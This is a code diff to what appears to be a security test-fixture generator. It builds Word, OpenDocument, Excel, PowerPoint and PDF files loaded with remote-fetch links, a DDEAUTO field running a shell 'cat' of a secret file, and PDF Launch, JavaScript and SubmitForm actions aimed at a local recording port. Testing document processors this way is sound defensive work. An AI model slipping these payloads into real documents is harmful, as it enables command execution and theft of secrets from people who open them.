@@ -18,8 +18,8 @@ _ODF = "urn:oasis:names:tc:opendocument:xmlns:"
 
 
 @dataclass(frozen=True)
-class Bait:
-    """Where somebody listens, a secret in the environment, and a secret file."""
+class HostileTargets:
+    """A port that records calls, a secret in the environment, and a secret file."""
 
     port: int
     variable: str
@@ -82,10 +82,10 @@ def _picture(name: str) -> str:
     )
 
 
-def docx(bait: Bait) -> bytes:
+def docx(targets: HostileTargets) -> bytes:
     """A Word file with a template, pictures, objects and fields from elsewhere."""
     body, links = ["<w:p><w:r><w:t>Kính mời</w:t></w:r></w:p>"], []
-    for number, address in enumerate(bait.addresses()):
+    for number, address in enumerate(targets.addresses()):
         links.append(_link(f"p{number}", "image", address))
         links.append(_link(f"o{number}", "oleObject", address))
         links.append(_link(f"c{number}", "aFChunk", address))
@@ -100,7 +100,7 @@ def docx(bait: Bait) -> bytes:
             _field(f'{order} "{address}" \\d')
             for order in ("INCLUDETEXT", "INCLUDEPICTURE", "LINK Word.Document.12")
         ]
-    body.append(_field(f"DDEAUTO sh \"-c 'cat {bait.secret_file}'\""))
+    body.append(_field(f"DDEAUTO sh \"-c 'cat {targets.secret_file}'\""))
     body.append('<w:subDoc r:id="p0"/><w:sectPr/>')
     names = (
         f'xmlns:w="{_W}" xmlns:r="{_TYPES}" xmlns:o="urn:schemas-microsoft-com:office:'
@@ -112,7 +112,7 @@ def docx(bait: Bait) -> bytes:
         f'<w:settings xmlns:w="{_W}" xmlns:r="{_TYPES}"><w:updateFields w:val="true"/>'
         '<w:attachedTemplate r:id="t"/></w:settings>'
     )
-    template = _link("t", "attachedTemplate", f"{bait.at}/template.dotx")
+    template = _link("t", "attachedTemplate", f"{targets.at}/template.dotx")
     return replaced(
         sample_files.docx(),
         {
@@ -155,10 +155,10 @@ def _linked(address: str) -> str:
     return f'x:href="{address}" x:type="simple" x:show="embed" x:actuate="onLoad"'
 
 
-def odt(bait: Bait) -> bytes:
+def odt(targets: HostileTargets) -> bytes:
     """An OpenDocument text with pictures, sections and objects from elsewhere."""
     body = ["<t:p>Kính mời</t:p>"]
-    for number, address in enumerate(bait.addresses()):
+    for number, address in enumerate(targets.addresses()):
         frame = '<d:frame t:anchor-type="as-char" v:width="2cm" v:height="2cm">'
         body.append(f"<t:p>{frame}<d:image {_linked(address)}/></d:frame></t:p>")
         body.append(f"<t:p>{frame}<d:object {_linked(address)}/></d:frame></t:p>")
@@ -172,12 +172,12 @@ def odt(bait: Bait) -> bytes:
     return _odf("text", f"<o:text>{''.join(body)}</o:text>")
 
 
-def ods(bait: Bait) -> bytes:
+def ods(targets: HostileTargets) -> bytes:
     """A table that fetches cells and pages from elsewhere."""
     rows = "".join(
         '<b:table-row><b:table-cell o:value-type="string" b:formula="of:='
         f'{formula}"><t:p>?</t:p></b:table-cell></b:table-row>'
-        for address in bait.addresses()
+        for address in targets.addresses()
         for formula in (
             f"WEBSERVICE(&quot;{address}&quot;)",
             f"HYPERLINK(&quot;{address}&quot;)",
@@ -189,7 +189,7 @@ def ods(bait: Bait) -> bytes:
         f'<b:table b:name="s{number}"><b:table-source {_linked(address)}'
         ' b:filter-name="HTML (StarCalc)"/><b:table-row><b:table-cell/></b:table-row>'
         "</b:table>"
-        for number, address in enumerate(bait.addresses())
+        for number, address in enumerate(targets.addresses())
     )
     content = (
         f'<o:spreadsheet><b:table b:name="a">{rows}</b:table>{tables}</o:spreadsheet>'
@@ -197,7 +197,7 @@ def ods(bait: Bait) -> bytes:
     return _odf("spreadsheet", content)
 
 
-def xlsx(bait: Bait) -> bytes:
+def xlsx(targets: HostileTargets) -> bytes:
     """A workbook with formulas and other workbooks from elsewhere."""
     space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
     cells = "".join(
@@ -205,7 +205,7 @@ def xlsx(bait: Bait) -> bytes:
         for number, formula in enumerate(
             (
                 formula
-                for address in bait.addresses()
+                for address in targets.addresses()
                 for formula in (
                     f'_xlfn.WEBSERVICE("{address}")',
                     f'HYPERLINK("{address}")',
@@ -220,12 +220,12 @@ def xlsx(bait: Bait) -> bytes:
     return replaced(sample_files.xlsx(), {"xl/worksheets/sheet1.xml": sheet.encode()})
 
 
-def pptx(bait: Bait) -> bytes:
+def pptx(targets: HostileTargets) -> bytes:
     """Slides with pictures, sound and film from elsewhere."""
     slides = "http://schemas.openxmlformats.org/presentationml/2006/main"
     names = f'xmlns:p="{slides}" xmlns:r="{_TYPES}" xmlns:a="{_A}/main"'
     pictures, links = [], []
-    for number, address in enumerate(bait.addresses()):
+    for number, address in enumerate(targets.addresses()):
         links += [
             _link(f"{kind[0]}{number}", kind, address)
             for kind in ("image", "video", "audio")
@@ -256,9 +256,9 @@ def pptx(bait: Bait) -> bytes:
     )
 
 
-def pdf(bait: Bait) -> bytes:
+def pdf(targets: HostileTargets) -> bytes:
     """A PDF that runs, launches, sends, imports and shows what is elsewhere."""
-    at, file = bait.at.encode(), bait.secret_file.encode()
+    at, file = targets.at.encode(), targets.secret_file.encode()
     catalog = (
         b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/Names<</JavaScript<</Names"
         b"[(a) 5 0 R]>>>>/AA<</WC 6 0 R/DS 7 0 R>>/URI<</Base(%s/)>>"
@@ -282,7 +282,7 @@ def pdf(bait: Bait) -> bytes:
             b"<</S/JavaScript/JS(%s)/Next[6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]>>" % script,
             b"<</S/Launch/F(%s)/Unix<</F(/bin/cat %s)>>>>" % (at, file),
             b"<</S/URI/URI(%s/uri)>>" % at,
-            b"<</S/GoToR/F(//127.0.0.1:%d/share/a.pdf)/D[0/Fit]>>" % bait.port,
+            b"<</S/GoToR/F(//127.0.0.1:%d/share/a.pdf)/D[0/Fit]>>" % targets.port,
             b"<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>/Flags 4>>" % at,
             b"<</S/ImportData/F(%s)>>" % file,
             stream(b"", shown + b"/ColorSpace/DeviceGray" + outside),
